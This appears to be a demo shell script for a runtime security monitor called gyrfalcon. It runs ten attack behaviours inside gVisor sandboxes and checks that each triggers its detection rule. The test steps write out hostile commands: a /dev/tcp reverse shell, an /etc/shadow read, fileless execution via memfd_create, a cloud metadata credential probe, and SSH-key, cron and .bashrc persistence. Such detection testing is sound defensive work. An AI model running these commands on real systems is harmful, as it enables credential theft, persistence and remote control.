#!/bin/sh
# Builds gyrfalcon, lets ten real gVisor sandboxes misbehave, and shows which alerts each of them caused.
# Exit code 1 when an expected alert is missing. With GYRFALCON=PROGRAM that program is shown, nothing is built.
set -eu
cd "$(dirname "$0")/.."
. scripts/lib.sh
. scripts/sandbox.sh

# memfd_create has no command; perl, which every Debian has, can call it by number.
case $(uname -m) in
  aarch64) memfd_create=279 ;;
  *) memfd_create=319 ;;
esac

# What happens: a sandbox per paragraph, with the rule that must fire.
steps() {
  cat <<EOF
what    drops a file among the programs
rule    File below a binary directory opened for writing
command /bin/touch /bin/foo; true

what    reads the password hashes
rule    Sensitive file read
command /bin/cat /etc/shadow; true

what    breaks into a web server, which then starts a shell
rule    Shell spawned by a server
command /usr/sbin/nginx -e 'system "/bin/sh", "-c", "id; true"'

what    hands a shell to somebody at the other end of a connection
rule    Shell connected to a network socket
command echo id | nc -l -p 4444 & sleep 0.3; bash -c 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1'

what    brings a program of its own and runs it
rule    New executable run
command cp /bin/bash /var/tmp/miner; chmod +x /var/tmp/miner; /var/tmp/miner -c 'echo mining'

what    runs a program that is in no file
rule    Program run from memory
command perl -e '\$fd = syscall($memfd_create, \$name = "payload", 0); open M, ">&=", \$fd; open B, "/bin/busybox"; undef \$/; syswrite M, <B>; exec {"/proc/self/fd/\$fd"} "busybox", "id"'

what    asks the cloud for the machine's credentials
rule    Cloud metadata service contacted
command /bin/nc -w 1 169.254.169.254 80

what    lets itself in for later, by SSH key
rule    SSH authorized keys written
command mkdir -p /root/.ssh; echo 'ssh-ed25519 AAAA intruder' >>/root/.ssh/authorized_keys

what    comes back every minute, by cron
rule    Scheduled task written
command echo '* * * * * root /var/tmp/miner' >/etc/cron.d/update

what    comes back at every login, by a shell's start-up file
rule    Shell start-up file written
command echo 'alias sudo=/var/tmp/fake-sudo' >>/root/.bashrc
EOF
}

is_root || die "the demo starts real gVisor sandboxes, which needs root: sudo ./dev demo"
if [ -z "${GYRFALCON:-}" ]; then
  sh scripts/install-packages.sh build demo
  # The program alone: its tests would take as long again.
  sh scripts/build.sh release gyrfalcon
  GYRFALCON=$ROOT/build/release/gyrfalcon
fi
export GYRFALCON
ensure_root_is_mounted scripts/demo.sh
[ -x "$GYRFALCON" ] || die "no program at $GYRFALCON"
# Debian's own, even where another is earlier in PATH.
RUNSC=${RUNSC:-/usr/bin/runsc}
[ -x "$RUNSC" ] || RUNSC=$(command -v runsc) || die "no runsc: scripts/install-packages.sh demo installs it"

scratch=$(mktemp -d "${TMPDIR:-/tmp}/gyrfalcon-demo.XXXXXX")
daemon=''
cleanup() {
  trap - EXIT
  remove_sandboxes "$RUNSC" "$scratch/state"
  [ -z "$daemon" ] || kill "$daemon" 2>/dev/null || true
  unmount_below "$scratch"
  rm -rf "$scratch"
}
trap cleanup EXIT
trap 'exit 130' HUP INT PIPE TERM

started=$(date +%s)
mkdir "$scratch/state"
flags=$(pick_flags "$RUNSC" "$scratch/state")
if [ -z "$flags" ]; then
  tail -n 3 "$scratch/state.log" >&2
  die "no gVisor sandbox starts here with $RUNSC; what it said is above"
fi
say "sandboxes: $("$RUNSC" --version | head -n 1) $flags"
make_rootfs "$scratch/rootfs"

"$GYRFALCON" session generate --socket "$scratch/run/gvisor.sock" >"$scratch/session.json"
STATE_DIRECTORY=$scratch/store # not among the alerts of a gyrfalcon that runs here
export STATE_DIRECTORY
alerts=$scratch/alerts.jsonl
log=$scratch/log
# As a user starts it, but for the form of the alerts: the script reads the rule's name from the JSON.
"$GYRFALCON" run -g "$scratch/session.json" -o json_output=true >"$alerts" 2>"$log" &
daemon=$!
if ! wait_for_line 'event collection from gVisor is enabled' "$log" 10; then
  cat "$log" >&2
  die "gyrfalcon did not start to listen; what it said is above"
fi

# The names of the rules in the alerts on stdin, one a line. A quote inside a value is escaped, so
# the pattern matches the key only.
rules_of() { sed -n 's/.*"rule": *"\([^"]*\)".*/\1/p'; }
# The alert's line as it is without JSON.
lines_of() { sed -n 's/.*"output": *"\(\([^"\\]\|\\.\)*\)".*/\1/p' | sed -e 's/\\"/"/g' -e 's/\\\\/\\/g'; }

missing=0
sandboxes=0
summary=$scratch/summary

# One sandbox: run $command, then wait until the alert of $rule is among the new lines, or 3 s.
run_step() {
  sandboxes=$((sandboxes + 1))
  before=$(wc -l <"$alerts")
  printf '\n%s%d. A sandbox %s%s\n   $ %s\n' "$OUT_BOLD" $sandboxes "$what" "$OUT_PLAIN" "$command"
  status=0
  run_sandbox "$RUNSC" "$flags" "$scratch/state" "$scratch/rootfs" "$scratch/session.json" "$command" \
    >"$scratch/sandbox.log" 2>&1 || status=$?
  # 128: runsc itself failed. What the misbehaving command returns is its own affair.
  if [ $status -ge 124 ]; then
    tail -n 3 "$scratch/sandbox.log"
  fi
  seen=MISSING
  tries=60
  while [ $tries -gt 0 ]; do
    if tail -n +$((before + 1)) "$alerts" | rules_of | grep -Fxq -- "$rule"; then
      seen=seen
      break
    fi
    tries=$((tries - 1))
    sleep 0.05
  done
  tail -n +$((before + 1)) "$alerts" | lines_of | sed "s/^/   $OUT_RED/; s/\$/$OUT_PLAIN/"
  [ $seen = seen ] || missing=$((missing + 1))
  printf '%-52s %s\n' "$rule" $seen >>"$summary"
}

what='' rule='' command=''
steps >"$scratch/steps"
echo >>"$scratch/steps"
while IFS= read -r line <&3; do
  case $line in
    'what '*) what=${line#what    } ;;
    'rule '*) rule=${line#rule    } ;;
    'command '*) command=${line#command } ;;
    '') run_step ;;
  esac
done 3<"$scratch/steps"

status=0
kill -TERM "$daemon"
wait "$daemon" || status=$?
daemon=''

printf '\n%sAlert                                                expected%s\n' "$OUT_BOLD" "$OUT_PLAIN"
cat "$summary"
rules=$(rules_of <"$alerts" | sort -u | wc -l)
printf '\n%d alerts of %d rules from %d sandboxes in %d s\n' \
  "$(wc -l <"$alerts")" "$rules" $sandboxes $(($(date +%s) - started))
if [ $status -ne 0 ]; then
  tail -n 5 "$log" >&2
  die "gyrfalcon ended with exit code $status"
fi
if [ $missing -ne 0 ]; then
  tail -n 5 "$log" >&2
  printf '%s%d expected alerts are missing%s\n' "$OUT_RED" $missing "$OUT_PLAIN"
  exit 1
fi
printf '%sEvery expected alert was seen.%s\n' "$OUT_GREEN" "$OUT_PLAIN"
